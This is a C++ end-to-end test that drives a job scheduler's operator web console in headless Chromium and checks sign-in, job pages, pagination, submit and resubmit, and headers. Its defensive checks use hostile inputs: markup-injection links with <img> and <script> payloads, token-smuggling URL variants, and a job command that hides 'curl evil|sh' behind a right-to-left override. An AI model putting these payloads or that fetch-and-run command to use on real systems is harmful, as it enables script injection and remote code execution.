// The operator console (/ui) in headless Chromium (Debian's `chromium`, driven by
// puppeteer-core: tests/testing/browser.h), against the real `jointcloud` and a real adapter
// running real jobs (issue 16 item 2): a person signs in through the form, each page is
// opened in that tab, what it shows is checked in the DOM Chromium rendered, and a screenshot
// is saved. No token is ever in an address (issue 49 item 11).

#include <signal.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <regex>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "tests/testing/browser.h"
#include "tests/testing/rest_client.h"
#include "tests/testing/server_processes.h"

using nlohmann::json;

TEST_CASE("the operator console, signed in through its form and never by a link, shows centers, the queue, jobs with "
          "placements and logs, and charts [C8][A12][C6]",
          "[C8][A12][C6]") {
  std::string dir = std::filesystem::temp_directory_path() / ("jc-e2e-console-" + std::to_string(getpid()));
  std::filesystem::remove_all(dir);
  std::filesystem::create_directories(dir);
  std::string shots = JC_SCREENSHOT_DIR;
  std::filesystem::create_directories(shots);
  int adapter_port_number = 0;
  auto adapter = jc::testing::StartLocalAdapterProcess(JC_ADAPTER_LOCAL, dir, "beijing", 4, &adapter_port_number);
  const std::string adapter_address = "127.0.0.1:" + std::to_string(adapter_port_number);
  auto started = jc::testing::StartServerProcess(JC_SERVER_BINARY, dir, "e2e_console", "server.log");
  auto& server = *started.process;
  const std::string port = std::to_string(started.rest_port);
  std::string token = jc::testing::AdminToken(dir + "/admin.token");
  jc::testing::RestClient rest(started.rest_port, token);

  // Two centers on the map: Beijing runs jobs, Shanghai has no adapter answering.
  REQUIRE(jc::testing::AddCenterWithSpec(rest, "beijing", adapter_address, 4, 4096, "256Mi"));
  REQUIRE(rest.Send("PATCH", "/openapi/v1/centers/beijing", json{{"geometry", {116.4, 39.9}}, {"name", "Beijing AI"}}.dump())
              .http_status == 200);
  REQUIRE(rest.Post("/openapi/v1/centers", {{"ai_center_id", "shanghai"},
                                            {"name", "Shanghai AI"},
                                            {"region", "east"},
                                            {"geometry", {121.5, 31.2}},
                                            {"adapter_address", "127.0.0.1:1"},
                                            {"capacity", {{"cpu", 64}, {"memory", 65536}}}})
              .http_status == 200);

  std::vector<std::string> done;
  for (int i = 0; i < 2; ++i) {
    json job = {{"name", "hello-" + std::to_string(i)},
                {"tasks", {{{"name", "main"}, {"command", "echo hello-console-$JC_REPLICA_INDEX"},
                            {"resourceSpecId", "cpu-1"}, {"replicaNumber", 2}}}}};
    auto r = rest.Post("/openapi/v1/trainjob", job);
    REQUIRE(r.http_status == 200);
    done.push_back(r.body["data"]["jobId"]);
  }
  // Shanghai offers cpu-1 too, and a third center has no geometry: it is named beside the map.
  REQUIRE(rest.Send("PATCH", "/openapi/v1/resourcespecs/cpu-1", json{{"computing_center_list", "beijing,shanghai"}}.dump())
              .http_status == 200);
  REQUIRE(rest.Post("/openapi/v1/centers", {{"ai_center_id", "nowhere-dc"},
                                            {"name", "No Geometry"},
                                            {"region", "west"},
                                            {"adapter_address", "127.0.0.1:1"},
                                            {"capacity", {{"cpu", 8}, {"memory", 8192}}}})
              .http_status == 200);
  // One that cannot start now: its gang needs more than Beijing has, and Shanghai (which
  // could hold it) does not answer. A gang no registered center could ever hold would be
  // refused at submit instead.
  json big = {{"name", "too-big"},
              {"scheduling", {{"gang", true}}},
              {"tasks", {{{"name", "main"}, {"command", "true"}, {"resourceSpecId", "cpu-1"}, {"replicaNumber", 12}}}}};
  auto waiting = rest.Post("/openapi/v1/trainjob", big);
  REQUIRE(waiting.http_status == 200);
  std::string waiting_id = waiting.body["data"]["jobId"];
  REQUIRE(jc::testing::WaitUntil(
      [&] {
        for (const auto& id : done) {
          if (rest.Get("/openapi/v1/trainjob/" + id).body["data"]["status"] != "completed") return false;
        }
        return true;
      },
      std::chrono::seconds(60)));

  std::string base = "http://127.0.0.1:" + port + "/ui/";
  // The usage page reads the jobs' usage records: written once their attempts' ends are.
  const std::string month = absl::FormatTime("%Y-%m", absl::Now(), absl::UTCTimeZone());
  REQUIRE(jc::testing::WaitUntil([&] {
    auto r = rest.Get("/openapi/v1/accounting/records?jobId=" + done[0]);
    return r.http_status == 200 && r.body["data"].value("records", json::array()).size() == 2;
  }));

  // A person signs in through the form (issue 49 item 11) and opens each page in that tab.
  const std::string injected_link = "#/plan?spec=%3Cimg%20src%3Dx%20id%3Dinjected%3E&name=%22%3E%3Cb%20id%3Dbold%3E&command=%3Cscript%3E";
  // The second page of two jobs a page, as the API gives it (newest first).
  const std::string second_page = rest.Get("/openapi/v1/trainjob?pageSize=2").body["data"].value("nextPageToken", "");
  REQUIRE_FALSE(second_page.empty());
  const std::vector<jc::testing::BrowserStep> steps = {
      {"#/centers", {"Centers (3)", "signed in as admin"}, shots + "/centers.png"},
      {"#/queue", {"Queue: 1 waiting"}, shots + "/queue.png"},
      {"#/jobs/" + waiting_id, {"id=\"stop-job\""}},
      {"#/jobs", {"Jobs, newest first: 3 on page 1"}, shots + "/jobs.png"},
      {"#/jobs/" + done[0], {"hello-console-0", "ended  completed (was ", "badge succeeded"}, shots + "/job.png"},
      {"#/plan?spec=cpu-1&replicas=2&command=true&duration=90", {"badge chosen", "id=\"expected-durations\""},
       shots + "/plan.png"},
      {"#/plan?spec=no-such-spec", {"id=\"plan-error\""}},
      {injected_link, {"id=\"plan-error\""}},
      {"#/charts", {"Throughput: jobs scheduled per second"}, shots + "/charts.png"},
      {"#/usage", {"Cost by day"}, shots + "/usage.png"},
      // Jobs a page at a time, and filtered (issue 49 item 2).
      {"#/jobs?size=2", {"Jobs, newest first: 2 on page 1", "id=\"older\""}},
      {"#/jobs?size=2&before=" + second_page + "&page=2", {"Jobs, newest first: 1 on page 2", "id=\"newest\""}},
      {"#/jobs?status=pending", {"Jobs, newest first: 1 on page 1 (filtered)"}},
  };
  const jc::testing::BrowserRun run = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, steps);
  INFO(run.sign_in_error);
  REQUIRE(run.signed_in);
  REQUIRE(run.pages.size() == steps.size());
  for (size_t i = 0; i < steps.size(); ++i) {
    INFO(steps[i].hash << ": " << run.pages[i].dom.substr(0, 4000));
    CHECK(run.pages[i].reached);
  }
  for (const auto& e : run.errors) {
    INFO(e);
    CHECK(e.empty());  // no uncaught error in the console's script
  }
  // No address the tab was at and no URL it asked for carries the token.
  for (const auto& a : run.addresses) CHECK_THAT(a, !Catch::Contains(token));
  for (const auto& r : run.requests) CHECK_THAT(r, !Catch::Contains(token));

  {  // centers: a table with status and usage, and a map by geometry
    const std::string& dom = run.pages[0].dom;
    CHECK_THAT(dom, Catch::Contains("Centers (3)"));
    CHECK_THAT(dom, Catch::Contains("id=\"not-on-map\""));  // every center on the map or beside it
    CHECK_THAT(dom, Catch::Contains("Not on the map (no geometry"));
    CHECK_THAT(dom, Catch::Contains("nowhere-dc"));
    CHECK_THAT(dom, Catch::Contains(">Refresh</button>"));
    CHECK_THAT(dom, Catch::Contains(">Sign out</button>"));
    CHECK_THAT(dom, Catch::Contains("Beijing AI"));
    CHECK_THAT(dom, Catch::Contains("Shanghai AI"));
    CHECK_THAT(dom, Catch::Contains("id=\"map\""));
    CHECK_THAT(dom, Catch::Contains("beijing · "));
    CHECK_THAT(dom, Catch::Contains("signed in as admin"));
  }
  {  // the queue: the waiting job and why it waits
    const std::string& dom = run.pages[1].dom;
    CHECK_THAT(dom, Catch::Contains("Queue: 1 waiting"));
    CHECK_THAT(dom, Catch::Contains(waiting_id));
    CHECK_THAT(dom, Catch::Contains("too-big"));
    // A job not ended has a Stop button (confirmed before it stops anything); an ended one has none.
    CHECK_THAT(run.pages[2].dom, Catch::Contains("id=\"stop-job\""));
  }
  {  // jobs: every job with its status and centers, the newest first
    const std::string& dom = run.pages[3].dom;
    CHECK_THAT(dom, Catch::Contains("Jobs, newest first: 3 on page 1"));
    for (const auto& id : done) CHECK_THAT(dom, Catch::Contains(id));
    CHECK_THAT(dom, Catch::Contains("badge completed"));
    CHECK(dom.find(waiting_id) < dom.find(done[1]));
    CHECK(dom.find(done[1]) < dom.find(done[0]));
    CHECK_THAT(dom, Catch::Contains("no older jobs"));
    // Two a page: the two newest, then the oldest on the second page.
    const std::string& first = run.pages[10].dom;
    CHECK_THAT(first, Catch::Contains(waiting_id));
    CHECK_THAT(first, Catch::Contains(done[1]));
    CHECK_THAT(first, !Catch::Contains(done[0]));
    const std::string& second = run.pages[11].dom;
    CHECK_THAT(second, Catch::Contains(done[0]));
    CHECK_THAT(second, !Catch::Contains(done[1]));
    CHECK_THAT(second, Catch::Contains("no older jobs"));
    // Filtered by status: the waiting job alone.
    const std::string& pending = run.pages[12].dom;
    CHECK_THAT(pending, Catch::Contains(waiting_id));
    CHECK_THAT(pending, !Catch::Contains(done[0]));
  }
  {  // a job: replicas and centers, the placement's explanation, its events and a replica's log
    const std::string& dom = run.pages[4].dom;
    CHECK_THAT(dom, Catch::Contains("Job " + done[0]));
    CHECK_THAT(dom, !Catch::Contains("id=\"stop-job\""));  // it ended: nothing to stop
    CHECK_THAT(dom, Catch::Contains("id=\"replicas\""));
    CHECK_THAT(dom, Catch::Contains("Task 0 replica 1 → beijing"));
    CHECK_THAT(dom, Catch::Contains("id=\"placement\""));
    CHECK_THAT(dom, Catch::Contains("hello-console-0"));  // the log of replica 0
    // Its events from its creation to its end (A7), though it ended before the page opened.
    CHECK_THAT(dom, Catch::Contains("created  pending"));
    CHECK_THAT(dom, Catch::Contains("ended  completed (was "));
    CHECK_THAT(dom, Catch::Contains("[0/1 succeeded @beijing]"));  // replica indices as numbers, 0 included
    CHECK_THAT(dom, !Catch::Contains("undefined"));
    CHECK_THAT(dom, Catch::Contains("id=\"history\""));  // every attempt: where, when, how it ended
    CHECK_THAT(dom, Catch::Contains("badge succeeded"));
  }
  {  // plan: a dry run of a job, per center its expected start, finish, cost and marks (A16)
    const std::string& dom = run.pages[5].dom;
    CHECK_THAT(dom, Catch::Contains("Plan a job"));
    CHECK_THAT(dom, Catch::Contains("id=\"plan-form\""));
    CHECK_THAT(dom, Catch::Contains("id=\"placement\""));
    CHECK_THAT(dom, Catch::Contains("Task 0 replica 1 → beijing"));
    CHECK_THAT(dom, Catch::Contains("beijing ✔"));
    CHECK_THAT(dom, Catch::Contains("<th>Finish</th>"));
    CHECK_THAT(dom, Catch::Contains("badge chosen"));
    CHECK_THAT(dom, Catch::Contains("id=\"expected-durations\""));  // from the estimate given: 90 s
    CHECK_THAT(dom, !Catch::Contains("undefined"));
    // What the plan refuses is said, not drawn: a spec no center offers.
    const std::string& refused = run.pages[6].dom;
    CHECK_THAT(refused, Catch::Contains("id=\"plan-error\""));
    CHECK_THAT(refused, Catch::Contains("no-such-spec"));
    // A link whose values carry markup shows them as text: nothing of it becomes the page's
    // (the spec, name and command are the link's, and the refusal repeats the spec).
    const std::string& injected = run.pages[7].dom;
    CHECK_THAT(injected, Catch::Contains("id=\"plan-error\""));
    CHECK_THAT(injected, !Catch::Contains("id=\"injected\""));
    CHECK_THAT(injected, !Catch::Contains("id=\"bold\""));
    CHECK_THAT(injected, Catch::Contains("&lt;img src=x id=injected&gt;"));
    // The jobs are as they were: a plan submits nothing.
    CHECK(rest.Get("/openapi/v1/trainjob?pageSize=100").body["data"]["jobs"].size() == 3);
  }
  {  // charts: throughput and scheduling time from /metrics
    const std::string& dom = run.pages[8].dom;
    CHECK_THAT(dom, Catch::Contains("jobs scheduled"));
    CHECK_THAT(dom, Catch::Contains("mean scheduling time"));
    CHECK_THAT(dom, Catch::Contains("Throughput: jobs scheduled per second"));
  }
  {  // usage: this month's cost per project and center, per day, and the settlement's status
    const std::string& dom = run.pages[9].dom;
    CHECK_THAT(dom, Catch::Contains("Usage and cost, " + month));
    CHECK_THAT(dom, Catch::Contains("id=\"usage\""));
    CHECK_THAT(dom, Catch::Contains("beijing"));
    CHECK_THAT(dom, Catch::Contains("Cost by project"));
    CHECK_THAT(dom, Catch::Contains("Cost by day"));
    CHECK_THAT(dom, Catch::Contains("badge open"));
  }
  {  // without a token: the sign-in form, and no data
    auto anonymous = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, "", {{"#/centers", {"Sign in"}}});
    REQUIRE(anonymous.pages.size() == 1);
    CHECK(anonymous.pages[0].reached);
    CHECK_THAT(anonymous.pages[0].dom, !Catch::Contains("Beijing AI"));
  }
  {  // a link carrying a token (the console's old way, or someone else's token) signs no one in:
     // the token leaves the address bar at once, unused, and the form says why
    auto linked = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, "",
                                      {{"", {"links never sign in"}, "", base + "#/jobs?token=" + token},
                                       {"", {"links never sign in"}, "", base + "#/plan?spec=cpu-1&token=" + token + "&name=x"},
                                       // however written (attacker's review, session 34)
                                       {"", {"links never sign in"}, "", base + "?token=" + token + "#/jobs"},
                                       {"", {"links never sign in"}, "", base + "#/jobs?%74oken=" + token},
                                       {"", {"links never sign in"}, "", base + "#/jobs?a=1;TOKEN=" + token},
                                       {"", {"links never sign in"}, "", base + "#/jobs/%3Ftoken=" + token},
                                       // a filter's value may hold the word (helper-47 F8): kept
                                       {"", {}, "", base + "#/jobs?project=token-lab&status=pending"}});
    REQUIRE(linked.pages.size() == 7);
    for (size_t i = 0; i < 6; ++i) {
      const auto& p = linked.pages[i];
      INFO(p.address << ": " << p.dom.substr(0, 4000));
      CHECK(p.reached);
      CHECK_THAT(p.dom, !Catch::Contains("Jobs, newest first"));
      CHECK_THAT(p.dom, !Catch::Contains(done[0]));
      CHECK_THAT(p.address, !Catch::Contains("token"));
    }
    CHECK(linked.pages[0].address == base + "#/jobs");
    CHECK(linked.pages[1].address == base + "#/plan?spec=cpu-1&name=x");
    CHECK(linked.pages[2].address == base + "#/jobs");
    CHECK(linked.pages[3].address == base + "#/jobs");
    CHECK(linked.pages[4].address == base + "#/jobs?a=1");
    CHECK(linked.pages[5].address == base + "#/centers");
    CHECK(linked.pages[6].address == base + "#/jobs?project=token-lab&status=pending");
    CHECK_THAT(linked.pages[6].dom, !Catch::Contains("links never sign in"));
    // The API saw no call with it: only the console's own files were asked for.
    for (const auto& r : linked.requests) {
      INFO(r);
      CHECK_THAT(r, !Catch::Contains("/openapi/"));
    }
  }
  {  // the queue as jc_job_queue_length counts it (issue 49 item 8): a partly placed job too
     // (running, with replicas still to place), and jobs alike as one row saying how many
    json partly = {{"name", "partly"},
                   {"tasks", {{{"name", "main"}, {"command", "sleep 300"}, {"resourceSpecId", "cpu-1"}, {"replicaNumber", 6}}}}};
    auto placed = rest.Post("/openapi/v1/trainjob", partly);
    REQUIRE(placed.http_status == 200);
    const std::string partly_id = placed.body["data"]["jobId"];
    for (int i = 0; i < 3; ++i) REQUIRE(rest.Post("/openapi/v1/trainjob", big).http_status == 200);
    REQUIRE(jc::testing::WaitUntil([&] {
      return rest.Get("/openapi/v1/trainjob/" + partly_id).body["data"].value("status", "") == "running" &&
             rest.Raw("/metrics").find("\njc_job_queue_length 5") != std::string::npos;
    }, std::chrono::seconds(60)));
    auto queue = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token,
                                     {{"#/queue", {"Queue: 5 waiting to be placed"}, shots + "/queue-alike.png"}});
    REQUIRE(queue.pages.size() == 1);
    const std::string& dom = queue.pages[0].dom;
    INFO(dom.substr(0, 6000));
    CHECK(queue.pages[0].reached);
    CHECK_THAT(dom, Catch::Contains("4 pending, 1 partly placed"));
    CHECK_THAT(dom, Catch::Contains("4 jobs alike"));
    CHECK_THAT(dom, Catch::Contains(partly_id));
    CHECK_THAT(dom, Catch::Contains("badge running"));
    REQUIRE(rest.Post("/openapi/v1/trainjob/" + partly_id + "/stop", json::object()).http_status == 200);
  }
  {  // submit and resubmit from the console (issue 49 item 12): a body typed in its editor is
     // submitted once however often the button is pressed, a misspelt field is refused in the
     // server's words, and a job's Resubmit fills the editor with its body again
    const std::string body = R"({"name": "typed", "desc": "from the console", "tasks": [{"name": "main", )"
                             R"("command": "echo typed", "resourceSpecId": "cpu-1", "replicaNumber": 2}]})";
    const std::string typo = R"({"name": "typo", "tasks": [{"name": "main", "comand": "true", "resourceSpecId": "cpu-1"}]})";
    jc::testing::BrowserStep submit{"#/submit", {"Submit a job"}};
    submit.fill = {{"#job-body", body}};
    submit.press = "#submit-job";
    submit.press_times = 2;
    submit.press_until = {"id=\"submitted\""};
    jc::testing::BrowserStep refused{"#/submit", {"Submit a job"}};
    refused.fill = {{"#job-body", typo}};
    refused.press = "#submit-job";
    refused.press_until = {"Not submitted: "};
    auto ran = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, {submit, refused});
    REQUIRE(ran.pages.size() == 2);
    INFO(ran.pages[0].pressed.dom.substr(0, 4000));
    REQUIRE(ran.pages[0].pressed.reached);
    const std::regex made("Submitted <a href=\"#/jobs/(job-[0-9]+)\"");
    std::smatch m;
    REQUIRE(std::regex_search(ran.pages[0].pressed.dom, m, made));
    const std::string typed_id = m[1];
    json typed = rest.Get("/openapi/v1/trainjob/" + typed_id).body["data"];
    CHECK(typed["name"] == "typed");
    CHECK(typed["desc"] == "from the console");
    CHECK(typed["taskInfos"][0]["replicaNumber"] == 2);
    // Pressed twice, one job (the Idempotency-Key of the body shown).
    int named_typed = 0;
    const json listed = rest.Get("/openapi/v1/trainjob?pageSize=1000").body;
    for (const auto& j : listed["data"]["jobs"]) named_typed += j["name"] == "typed";
    CHECK(named_typed == 1);
    INFO(ran.pages[1].pressed.dom.substr(0, 4000));
    CHECK(ran.pages[1].pressed.reached);
    CHECK_THAT(ran.pages[1].pressed.dom, Catch::Contains("tasks[0].comand: no such field; did you mean"));
    // Resubmit from the job's page: the editor holds its body; submitted, the new job is the
    // same job again (its name, description, tasks).
    jc::testing::BrowserStep open_job{"#/jobs/" + typed_id, {"Resubmit"}};
    open_job.press = "#resubmit";
    open_job.press_until = {"Submit a job", "id=\"resubmit-note\""};
    jc::testing::BrowserStep again{"#/submit", {"id=\"resubmit-note\"", "echo typed"}};
    again.press = "#submit-job";
    again.press_until = {"id=\"submitted\""};
    auto re = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, {open_job, again});
    REQUIRE(re.pages.size() == 2);
    INFO(re.pages[0].pressed.dom.substr(0, 4000) << "\n" << re.pages[1].pressed.dom.substr(0, 4000));
    REQUIRE(re.pages[1].pressed.reached);
    REQUIRE(std::regex_search(re.pages[1].pressed.dom, m, made));
    const std::string again_id = m[1];
    CHECK(again_id != typed_id);
    json second = rest.Get("/openapi/v1/trainjob/" + again_id).body["data"];
    for (const char* key : {"name", "desc", "project", "scheduling", "statusPolicy", "retryPolicy"}) {
      INFO(key);
      CHECK(second.value(key, json()) == typed.value(key, json()));
    }
    for (const char* key : {"name", "command", "resourceSpecId", "replicaNumber", "imageId", "kind"}) {
      INFO(key);
      CHECK(second["taskInfos"][0].value(key, json()) == typed["taskInfos"][0].value(key, json()));
    }
    // The whole create again, not only what the view shows (`request`), without its owner or key.
    CHECK(typed.contains("request"));
    CHECK(second["request"] == typed["request"]);
    CHECK(second["request"].value("userName", "") == "");
    CHECK(second["request"].value("idempotencyKey", "") == "");
    CHECK(ran.errors.empty());
    CHECK(re.errors.empty());
    // A command that hides part of itself (a right-to-left override: "curl evil|sh" shown as
    // if commented out) is written out in Resubmit's editor, not rendered (helper-51).
    json hidden = {{"name", "hidden"},
                   {"tasks", {{{"name", "main"}, {"command", "echo safe # \u202e hs|live lruc"}, {"resourceSpecId", "cpu-1"}}}}};
    auto made_hidden = rest.Post("/openapi/v1/trainjob", hidden);
    REQUIRE(made_hidden.http_status == 200);
    jc::testing::BrowserStep show{"#/jobs/" + made_hidden.body["data"]["jobId"].get<std::string>(), {"Resubmit"}};
    show.press = "#resubmit";
    show.press_until = {"id=\"resubmit-note\""};
    auto shown = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, {show});
    REQUIRE(shown.pages.size() == 1);
    INFO(shown.pages[0].pressed.dom.substr(0, 4000));
    CHECK(shown.pages[0].pressed.reached);
    CHECK_THAT(shown.pages[0].pressed.dom, Catch::Contains(R"(echo safe # \u202e hs|live lruc)"));
    CHECK_THAT(shown.pages[0].pressed.dom, !Catch::Contains("\u202e"));

    // Another person's job, resubmitted, runs as whoever submits it, with what its author chose:
    // the submit page says whose it was and what it carries (attacker helper-53).
    REQUIRE(rest.Post("/openapi/v1/projects", {{"name", "console-b"}}).http_status == 200);
    REQUIRE(rest.Post("/openapi/v1/users", {{"name", "bob"}}).http_status == 200);
    REQUIRE(rest.Send("PUT", "/openapi/v1/users/bob/projects/console-b", json{{"role", "MEMBER"}}.dump()).http_status ==
            200);
    auto bob_token = rest.Post("/openapi/v1/tokens", {{"user_name", "bob"}});
    REQUIRE(bob_token.http_status == 200);
    jc::testing::RestClient bob(started.rest_port, bob_token.body["data"]["secret"].get<std::string>());
    json bobs = {{"name", "bobs"},
                 {"tasks", {{{"name", "main"}, {"command", "true"}, {"resourceSpecId", "cpu-1"},
                             {"centerIDs", {"beijing"}}}}}};
    auto made_bobs = bob.Post("/openapi/v1/trainjob", bobs);
    INFO(made_bobs.body.dump());
    REQUIRE(made_bobs.http_status == 200);
    jc::testing::BrowserStep other{"#/jobs/" + made_bobs.body["data"]["jobId"].get<std::string>(), {"Resubmit"}};
    other.press = "#resubmit";
    other.press_until = {"id=\"resubmit-note\""};
    jc::testing::BrowserStep own{"#/jobs/" + typed_id, {"Resubmit"}};
    own.press = "#resubmit";
    own.press_until = {"id=\"resubmit-note\""};
    auto warned = jc::testing::Browse(JC_SOURCE_DIR, JC_BROWSER_TOOLS, dir, base, token, {other, own});
    REQUIRE(warned.pages.size() == 2);
    INFO(warned.pages[0].pressed.dom.substr(0, 4000));
    CHECK(warned.pages[0].pressed.reached);
    CHECK_THAT(warned.pages[0].pressed.dom, Catch::Contains("id=\"resubmit-warning\""));
    CHECK_THAT(warned.pages[0].pressed.dom, Catch::Contains("Submitted by bob, not you"));
    CHECK_THAT(warned.pages[0].pressed.dom, Catch::Contains("task main pinned to beijing"));
    // one's own job: no warning
    CHECK(warned.pages[1].pressed.reached);
    CHECK_THAT(warned.pages[1].pressed.dom, !Catch::Contains("id=\"resubmit-warning\""));
  }
  {  // the files are served by the gateway itself
    httplib::Client http("127.0.0.1", started.rest_port);
    auto js = http.Get("/ui/console.js");
    REQUIRE(js);
    CHECK(js->status == 200);
    CHECK_THAT(js->get_header_value("Content-Type"), Catch::StartsWith("text/javascript"));
    // The address a page was opened at never goes on as a Referer (a link's query included).
    CHECK(js->get_header_value("Referrer-Policy") == "no-referrer");
    auto missing = http.Get("/ui/nope.js");
    REQUIRE(missing);
    CHECK(missing->status == 404);
    auto redirect = http.Get("/ui");
    REQUIRE(redirect);
    CHECK(redirect->status == 302);
  }
  server.Signal(SIGTERM);
  server.Wait();
  std::filesystem::remove_all(dir);
}
